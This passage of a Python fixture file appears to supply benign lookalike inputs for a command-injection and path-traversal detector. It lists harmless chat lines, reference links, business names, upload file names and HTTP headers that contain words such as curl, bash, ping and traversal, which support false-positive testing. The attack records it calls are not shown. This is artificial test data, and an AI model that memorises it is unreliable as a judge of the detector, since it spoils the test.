    "the include/exclude filter on the users list ignores case",
    "webhook retries every 5 minutes, then gives up after an hour",
    "disable account: left the company on 31 May",
    "vendor asked for the path of the import folder on the SFTP server",
    "curl example in the API docs is missing the auth header",
    "sleep timer on the kiosk logs users out too early",
    "export as CSV, semicolon separated for the Excel users",
    "profile photo upload fails for .heic files",
    "the cat in the team photo is Bruno, not a bug",
    "user wants the page size raised to 100",
    "contractor needs read access to the env settings page",
    "traversal of the org chart is slow for deep teams",
    "the echo in the conference bridge is on their side",
    "id badge printing needs the full legal name",
    "who approved the admin role for the intern account?",
    "the Windows installer asks for admin rights, expected",
    "reverse the order of the audit log, newest first",
    "null values in the phone column break the export",
    "downloads page shows old version 2.3, should be 2.4",
    "config change request: raise the rate limit for the reporting bot",
    "the remote office VPN drops every hour",
    "user typed the wrong domain in the invite, resend to the right one",
    "protocol for offboarding: revoke tokens, then disable SSO",
    "the file name has an accent and the download renames it",
    "terminal output from the customer shows a permission denied on the log folder",
]
URLS = [
    "https://nvd.nist.gov/vuln/detail/CVE-2014-6271",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://owasp.org/www-community/attacks/Command_Injection",
    "https://cwe.mitre.org/data/definitions/98.html",
    "https://cwe.mitre.org/data/definitions/78.html",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/function.include.php",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-webrequest",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/ping",
    "https://curl.se/docs/manpage.html",
    "https://www.gnu.org/software/bash/manual/bash.html#Shell-Parameter-Expansion",
    "https://www.gnu.org/software/wget/manual/wget.html",
    "https://man7.org/linux/man-pages/man5/proc.5.html",
    "https://man7.org/linux/man-pages/man5/passwd.5.html",
    "https://nginx.org/en/docs/http/ngx_http_log_module.html",
    "https://httpd.apache.org/docs/2.4/howto/htaccess.html",
    "https://github.com/motdotla/dotenv#readme",
    "https://docs.github.com/en/authentication/connecting-to-github-with-ssh",
    "https://example.com/downloads/report.pdf?page=2",
    "https://cdn.example.com/assets/app.js?v=1.4.2",
    "https://wiki.example.org/ops/runbooks/backup-restore",
    "https://status.example.com/incidents/2024-06-01",
    "https://app.example.com/help?topic=file-uploads",
    "https://docs.python.org/3/library/subprocess.html#security-considerations",
    "https://portswigger.net/web-security/os-command-injection",
    "https://portswigger.net/web-security/file-path-traversal",
    "https://ubuntu.com/security/notices/USN-2362-1",
    "https://ftp.gnu.org/gnu/bash/",
    "https://en.wikipedia.org/wiki/Shellshock_(software_bug)",
    "https://learn.microsoft.com/en-us/iis/configuration/",
]
PROFILES = [
    ("Cat Power Studio", "Rua das Flores 12, Porto"),
    ("Ping Pong Club Leeds", "Kirkstall Rd 40, Leeds"),
    ("Shell Station 24", "Route 9, Utrecht"),
    ("Echo Valley Farm", "RR 2, Guelph, Ontario"),
    ("Tee Time Golf", "Links Ave 7, St Andrews"),
    ("The Bash Bar", "Oxford St 101, Manchester"),
    ("Curl Up Books", "Harbour St 3, Whitby"),
    ("Path Finder Tours", "Laugavegur 22, Reykjavik"),
    ("Page Turner Library Cafe", "Main St 5, Galway"),
    ("Template Works Ltd", "Unit 4, Bristol"),
    ("Include Kids Foundation", "Hauptstr. 8, Graz"),
    ("Windows & Doors Ltd", "Industrial Est 2, Cork"),
    ("Backup Plan Events", "Calle Mayor 14, Madrid"),
    ("Root & Branch Gardening", "Mill Lane 9, York"),
    ("Null Island Surf", "Praia do Norte, Nazare"),
    ("Protocol Cafe", "Vesterbrogade 30, Copenhagen"),
    ("Remote First Co", "Suite 200, Austin TX"),
    ("Proxy Print Shop", "Rue Neuve 6, Brussels"),
    ("Config & Co Accountants", "Baker St 221, London"),
    ("Tunnel Vision Media", "Sveavagen 44, Stockholm"),
]
UPLOAD_NAMES = [
    "passwd-reset-instructions.pdf", "windows-setup-guide.docx", "bash-cheatsheet.pdf", "powershell-basics.pptx",
    "config-backup-notes.txt", "db-schema.sql", "access-log-summary.xlsx", "env-variables.md",
    "web-config-review.pdf", "ssh-keys-policy.pdf", "report-old.pdf", "printer-settings.ini",
    "backup-2024-05.zip", "curl-examples.txt", "shell-script-review.pdf", "id-card-scan.jpg",
    "traversal-fix-notes.md", "include-list.csv", "template.docx", "reverse-proxy-diagram.png",
    "ping-results.txt", "team photo (1).jpg", "Q2 plan - final.xlsx", "cat.jpg", "ftp-migration-plan.pdf",
]
BENIGN_HEADERS = [
    ("User-Agent", "curl/8.5.0"),
    ("User-Agent", "Wget/1.21.4"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.4.2"),
    ("User-Agent", "Python-urllib/3.12"),
    ("User-Agent", "python-requests/2.32.3"),
    ("User-Agent", "Go-http-client/1.1"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/125.0.0.0 Safari/537.36 Edg/125.0.0.0"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"),
    ("Referer", "https://www.google.com/search?q=bash+sleep+command"),
    ("Referer", "https://learn.microsoft.com/en-us/powershell/"),
    ("Referer", "https://app.example.com/admin/users?page=3&q=ping"),
    ("Referer", "https://docs.example.com/guides/file-uploads#allowed-extensions"),
    ("Referer", "https://github.com/acme/gateway/blob/main/docs/backup.md"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "3c6e0b8a-9c1f-4e2d-8f7a-1b2c3d4e5f60"),
    ("Accept-Language", "de-CH,de;q=0.9,fr;q=0.8,en;q=0.7"),
    ("Cookie", "session=abc123; last_page=3; view=list"),
    ("Cookie", "session=abc123; recent_search=ping%20li; tz=America%2FChicago"),
    ("X-Forwarded-For", "198.51.100.24"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
